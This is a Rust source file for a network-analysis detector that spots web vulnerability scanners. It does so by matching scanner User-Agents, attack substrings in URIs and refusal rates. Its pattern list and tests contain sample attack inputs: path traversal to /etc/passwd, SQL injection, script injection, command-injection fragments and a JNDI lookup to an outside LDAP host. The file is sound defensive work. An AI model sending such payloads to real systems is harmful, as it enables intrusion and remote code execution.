//! `web_scanner`: one client probing one web server as Nikto, sqlmap,
//! gobuster, WPScan or Nuclei do, read from the HTTP exchanges the stream
//! reader finds (requests from the client, responses to it).
//!
//! Three signs, any of which makes the finding: a scanner's own
//! User-Agent on ten requests or more; ten requests or more whose URI
//! carries an attack (path traversal, SQL injection, script injection,
//! command injection, JNDI lookup, the password file); or a client whose
//! hundreds of requests to distinct URIs are mostly refused (4xx), as a
//! directory brute force is. A busy browser or API client makes many
//! requests, few refused, none of them attacks.

use std::collections::BTreeMap;
use std::net::IpAddr;

use hashbrown::{HashMap, HashSet};
use serde::{Deserialize, Serialize};

use super::{Anomaly, Severity, Span};
use crate::analyze::http::HttpMessage;

#[derive(Clone, Debug, Deserialize, Serialize)]
#[serde(default, deny_unknown_fields)]
pub struct WebScannerThresholds {
    /// Requests naming a scanner in their User-Agent.
    pub min_scanner_agent_requests: u64,
    /// Requests whose URI carries an attack.
    pub min_attack_requests: u64,
    /// For the refused-requests sign: requests, distinct URIs, and the
    /// share of responses that are 4xx.
    pub min_requests: u64,
    pub min_distinct_uris: u64,
    pub min_client_error_share: f64,
}

impl Default for WebScannerThresholds {
    fn default() -> Self {
        WebScannerThresholds {
            min_scanner_agent_requests: 10,
            min_attack_requests: 10,
            // gobuster's smallest word list is thousands of paths; a
            // browser's page load is tens, nearly all answered 2xx/3xx.
            min_requests: 200,
            min_distinct_uris: 100,
            min_client_error_share: 0.5,
        }
    }
}

/// Scanners that name themselves in the User-Agent, as they send it by
/// default (matched case-blind).
const SCANNER_AGENTS: [(&str, &str); 22] = [
    ("nikto", "Nikto"),
    ("sqlmap", "sqlmap"),
    ("nmap scripting engine", "Nmap NSE"),
    ("nessus", "Nessus"),
    ("openvas", "OpenVAS"),
    ("acunetix", "Acunetix"),
    ("wpscan", "WPScan"),
    ("dirbuster", "DirBuster"),
    ("gobuster", "gobuster"),
    ("fuzz faster u fool", "ffuf"),
    ("nuclei", "Nuclei"),
    ("feroxbuster", "feroxbuster"),
    ("w3af", "w3af"),
    ("zgrab", "zgrab"),
    ("masscan", "masscan"),
    ("wfuzz", "wfuzz"),
    ("arachni", "Arachni"),
    ("skipfish", "skipfish"),
    ("netsparker", "Netsparker"),
    ("havij", "Havij"),
    ("commix", "commix"),
    ("whatweb", "WhatWeb"),
];

/// What an attack puts in a URI, after one round of percent-decoding and
/// in lower case (`+` read as a space).
const ATTACKS: [&str; 19] = [
    "../",
    "..\\",
    "union select",
    "union all select",
    "' or '1'='1",
    "\" or \"1\"=\"1",
    " or 1=1",
    "sleep(",
    "benchmark(",
    "<script",
    "javascript:",
    "onerror=",
    "/etc/passwd",
    "win.ini",
    "cmd.exe",
    ";cat ",
    "|id",
    "${jndi:",
    "information_schema",
];

/// Client/server pairs followed; distinct URIs counted per pair.
const MAX_PAIRS: usize = 4_096;
const MAX_URIS: usize = 4_096;
const EXAMPLES: usize = 5;

#[derive(Debug, Default)]
struct Pair {
    requests: u64,
    responses: u64,
    client_errors: u64,
    attack_requests: u64,
    scanner_requests: u64,
    scanner: Option<&'static str>,
    uris: HashSet<u64>,
    attack_examples: Vec<String>,
    /// Frames of the first requests that raised an alarm (an attack URI
    /// or a scanner's agent), else of the first requests followed.
    frames: Vec<u64>,
    span: Option<Span>,
}

/// A client/server pair with fewer than [`PROMOTE_AT`] requests, none
/// of them an attack or from a scanner: most pairs (a browser's visit)
/// stay here, in a fixed table, and never cost a [`Pair`]. A pair that
/// takes a slot another holds forgets that one.
#[derive(Clone, Copy, Debug, Default)]
struct Early {
    key: Option<(IpAddr, IpAddr)>,
    requests: u32,
    responses: u32,
    client_errors: u32,
    first: i64,
    last: i64,
    uris: [u64; PROMOTE_AT as usize],
}

const PROMOTE_AT: u32 = 4;
const EARLY_SLOTS: usize = 2_048;

#[derive(Debug)]
pub struct WebScanner {
    t: WebScannerThresholds,
    pairs: HashMap<(IpAddr, IpAddr), Pair>,
    early: Vec<Early>,
    slot_hasher: foldhash::fast::FixedState,
}

impl Default for WebScanner {
    fn default() -> Self {
        WebScanner::new(WebScannerThresholds::default())
    }
}

/// One pass over a User-Agent or URI for every needle at once, case-blind
/// and without a lower-case copy: every request of a capture is read.
fn searcher(needles: impl IntoIterator<Item = &'static str>) -> aho_corasick::AhoCorasick {
    aho_corasick::AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(needles)
        .expect("fixed needles build")
}

static AGENT_SEARCH: std::sync::LazyLock<aho_corasick::AhoCorasick> =
    std::sync::LazyLock::new(|| searcher(SCANNER_AGENTS.iter().map(|(n, _)| *n)));
static ATTACK_SEARCH: std::sync::LazyLock<aho_corasick::AhoCorasick> =
    std::sync::LazyLock::new(|| searcher(ATTACKS));

/// The scanner a User-Agent names, if it names one.
pub fn scanner_agent(ua: &[u8]) -> Option<&'static str> {
    AGENT_SEARCH
        .find(ua)
        .map(|m| SCANNER_AGENTS[m.pattern().as_usize()].1)
}

/// Whether a URI carries one of [`ATTACKS`].
pub fn attack_in_uri(uri: &[u8]) -> bool {
    // Most URIs have nothing to decode: searched as they are.
    if !uri.iter().any(|&b| b == b'%' || b == b'+') {
        return ATTACK_SEARCH.is_match(uri);
    }
    let mut decoded = Vec::with_capacity(uri.len());
    let mut i = 0;
    while i < uri.len() {
        let b = uri[i];
        let hex = |c: u8| (c as char).to_digit(16);
        if b == b'%'
            && let (Some(h), Some(l)) = (
                uri.get(i + 1).copied().and_then(hex),
                uri.get(i + 2).copied().and_then(hex),
            )
        {
            decoded.push((h * 16 + l) as u8);
            i += 3;
            continue;
        }
        decoded.push(if b == b'+' { b' ' } else { b });
        i += 1;
    }
    ATTACK_SEARCH.is_match(&decoded)
}

#[cfg(test)]
mod search_tests {
    #[test]
    fn agents_and_attacks_are_found_case_blind_decoded_or_not() {
        assert_eq!(
            super::scanner_agent(b"Mozilla/5.00 (NIKTO/2.1.6)"),
            Some("Nikto")
        );
        assert_eq!(
            super::scanner_agent(b"Mozilla/5.0 (X11; Linux x86_64)"),
            None
        );
        assert!(super::attack_in_uri(b"/a?id=1 UNION SELECT 2"));
        assert!(super::attack_in_uri(b"/a?id=1%27%20union%20select%202--"));
        assert!(super::attack_in_uri(b"/a?q=1+UNION+select+2"));
        assert!(super::attack_in_uri(b"/search?q=' UNION ALL SELECT 1,2--"));
        assert!(super::attack_in_uri(b"/x/..%2F..%2Fetc%2Fpasswd"));
        assert!(!super::attack_in_uri(b"/index.html?page=2&sort=asc"));
        assert!(!super::attack_in_uri(b"/search?q=50%25+off"));
    }
}

impl WebScanner {
    pub fn new(t: WebScannerThresholds) -> WebScanner {
        WebScanner {
            t,
            pairs: HashMap::default(),
            early: vec![Early::default(); EARLY_SLOTS],
            slot_hasher: foldhash::fast::FixedState::default(),
        }
    }

    /// Count `m` in the early table; `false` when the pair must be
    /// followed as a [`Pair`] from this message on (made here, with what
    /// the table held).
    fn early(&mut self, m: &HttpMessage<'_>, key: (IpAddr, IpAddr), ts: i64, alarm: bool) -> bool {
        use std::hash::BuildHasher;
        let slot = (self.slot_hasher.hash_one(key) % EARLY_SLOTS as u64) as usize;
        let e = &mut self.early[slot];
        let request = matches!(m, HttpMessage::Request { .. });
        if e.key != Some(key) {
            if !request {
                // A response whose request is not held: nothing to add to.
                return true;
            }
            if !alarm {
                *e = Early {
                    key: Some(key),
                    first: ts,
                    last: ts,
                    ..Early::default()
                };
            }
        }
        if e.key == Some(key) && !alarm && !(request && e.requests + 1 >= PROMOTE_AT) {
            e.last = ts;
            match m {
                HttpMessage::Request { uri, .. } => {
                    let h = super::fnv(uri);
                    let n = e.requests as usize;
                    if !e.uris[..n].contains(&h) {
                        e.uris[n] = h;
                    }
                    e.requests += 1;
                }
                HttpMessage::Response { status, .. } => {
                    e.responses += 1;
                    if (400..500).contains(status) {
                        e.client_errors += 1;
                    }
                }
            }
            return true;
        }
        if self.pairs.len() >= MAX_PAIRS {
            return true;
        }
        let mut p = Pair::default();
        if e.key == Some(key) {
            p.requests = u64::from(e.requests);
            p.responses = u64::from(e.responses);
            p.client_errors = u64::from(e.client_errors);
            p.uris = e.uris[..e.requests as usize]
                .iter()
                .copied()
                .filter(|&h| h != 0)
                .collect();
            p.span = Some(Span {
                first: e.first,
                last: e.last,
            });
            *e = Early::default();
        }
        self.pairs.insert(key, p);
        false
    }

    /// One HTTP message from `sender` to `receiver` at `ts`.
    pub fn message(
        &mut self,
        m: &HttpMessage<'_>,
        sender: IpAddr,
        receiver: IpAddr,
        ts: i64,
        frame: u64,
    ) {
        let key = match m {
            HttpMessage::Request { .. } => (sender, receiver),
            HttpMessage::Response { .. } => (receiver, sender),
        };
        let (attack, agent) = match m {
            HttpMessage::Request {
                uri, user_agent, ..
            } => (attack_in_uri(uri), user_agent.and_then(scanner_agent)),
            HttpMessage::Response { .. } => (false, None),
        };
        if !self.pairs.contains_key(&key) && self.early(m, key, ts, attack || agent.is_some()) {
            return;
        }
        let Some(p) = self.pairs.get_mut(&key) else {
            return;
        };
        match &mut p.span {
            Some(s) => s.add(ts),
            None => p.span = Some(Span::new(ts)),
        }
        match m {
            HttpMessage::Request { uri, .. } => {
                p.requests += 1;
                if p.uris.len() < MAX_URIS {
                    p.uris.insert(super::fnv(uri));
                }
                let alarmed = p.scanner_requests + p.attack_requests > 0;
                if attack || agent.is_some() {
                    // Alarms first: plain requests make way for them.
                    if !alarmed {
                        p.frames.clear();
                    }
                    super::push_example(&mut p.frames, frame);
                } else if !alarmed {
                    super::push_example(&mut p.frames, frame);
                }
                if let Some(name) = agent {
                    p.scanner = Some(name);
                    p.scanner_requests += 1;
                }
                if attack {
                    p.attack_requests += 1;
                    if p.attack_examples.len() < EXAMPLES {
                        let shown: String =
                            String::from_utf8_lossy(uri).chars().take(120).collect();
                        p.attack_examples.push(shown);
                    }
                }
            }
            HttpMessage::Response { status, .. } => {
                p.responses += 1;
                if (400..500).contains(status) {
                    p.client_errors += 1;
                }
            }
        }
    }

    /// The most attack URIs from one client to one server, against the
    /// threshold.
    pub fn closest(&self) -> Vec<super::Closest> {
        let widest = self
            .pairs
            .iter()
            .max_by_key(|(k, p)| (p.attack_requests, std::cmp::Reverse(**k)));
        widest
            .map(|((client, server), p)| super::Closest {
                measure: "attack_uris_from_one_client",
                value: p.attack_requests as f64,
                threshold: self.t.min_attack_requests as f64,
                at: format!("{client} to {server}"),
            })
            .into_iter()
            .collect()
    }

    pub fn finish(self) -> Vec<Anomaly> {
        let th = &self.t;
        let mut pairs: Vec<_> = self.pairs.into_iter().collect();
        pairs.sort_by_key(|(k, _)| *k);
        let mut out = Vec::new();
        for ((client, server), p) in pairs {
            let error_share = if p.responses > 0 {
                p.client_errors as f64 / p.responses as f64
            } else {
                0.0
            };
            let by_agent = p.scanner_requests >= th.min_scanner_agent_requests;
            let by_attacks = p.attack_requests >= th.min_attack_requests;
            let by_refusals = p.requests >= th.min_requests
                && p.uris.len() as u64 >= th.min_distinct_uris
                && error_share >= th.min_client_error_share;
            if !(by_agent || by_attacks || by_refusals) {
                continue;
            }
            let Some(span) = p.span else { continue };
            let mut signs = Vec::new();
            if by_agent {
                signs.push(format!(
                    "a User-Agent naming {}",
                    p.scanner.unwrap_or("a scanner")
                ));
            }
            if by_attacks {
                signs.push(format!("{} URIs carrying attacks", p.attack_requests));
            }
            if by_refusals {
                signs.push(format!("{:.0}% refused (4xx)", error_share * 100.0));
            }
            let note = (!p.attack_examples.is_empty())
                .then(|| format!("attack URIs, e.g. {}", p.attack_examples.join(" | ")));
            out.push(Anomaly {
                evidence: BTreeMap::from([
                    ("requests", p.requests as f64),
                    ("distinct_uris", p.uris.len() as f64),
                    ("attack_requests", p.attack_requests as f64),
                    ("scanner_agent_requests", p.scanner_requests as f64),
                    ("responses", p.responses as f64),
                    ("client_error_share", error_share),
                ]),
                thresholds: BTreeMap::from([
                    (
                        "min_scanner_agent_requests",
                        th.min_scanner_agent_requests as f64,
                    ),
                    ("min_attack_requests", th.min_attack_requests as f64),
                    ("min_requests", th.min_requests as f64),
                    ("min_distinct_uris", th.min_distinct_uris as f64),
                    ("min_client_error_share", th.min_client_error_share),
                ]),
                sources: vec![client.to_string()],
                destinations: vec![server.to_string()],
                note,
                ..Anomaly::new(
                    "web_scanner",
                    None,
                    if by_attacks {
                        Severity::High
                    } else {
                        Severity::Medium
                    },
                    format!(
                        "{} HTTP requests from {client} to {server}: {}",
                        p.requests,
                        signs.join(", ")
                    ),
                    span,
                    p.frames.clone(),
                )
            });
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks_are_found_through_percent_encoding_and_plain_paths_are_not() {
        for uri in [
            &b"/../../etc/passwd"[..],
            b"/index.php?id=1%27%20OR%20%271%27%3D%271",
            b"/item?id=1+UNION+SELECT+username,password+FROM+users",
            b"/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
            b"/a?x=${jndi:ldap://198.18.0.9/a}",
            b"/cgi-bin/..%5c..%5cwindows/win.ini",
        ] {
            assert!(attack_in_uri(uri), "{}", String::from_utf8_lossy(uri));
        }
        for uri in [
            &b"/"[..],
            b"/static/app.js?v=3",
            b"/search?q=union+station+timetable",
            b"/docs/selection.html",
        ] {
            assert!(!attack_in_uri(uri), "{}", String::from_utf8_lossy(uri));
        }
        assert_eq!(
            scanner_agent(b"Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"),
            Some("Nikto")
        );
        assert_eq!(
            scanner_agent(b"sqlmap/1.7#stable (https://sqlmap.org)"),
            Some("sqlmap")
        );
        assert_eq!(
            scanner_agent(b"Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"),
            None
        );
    }
}
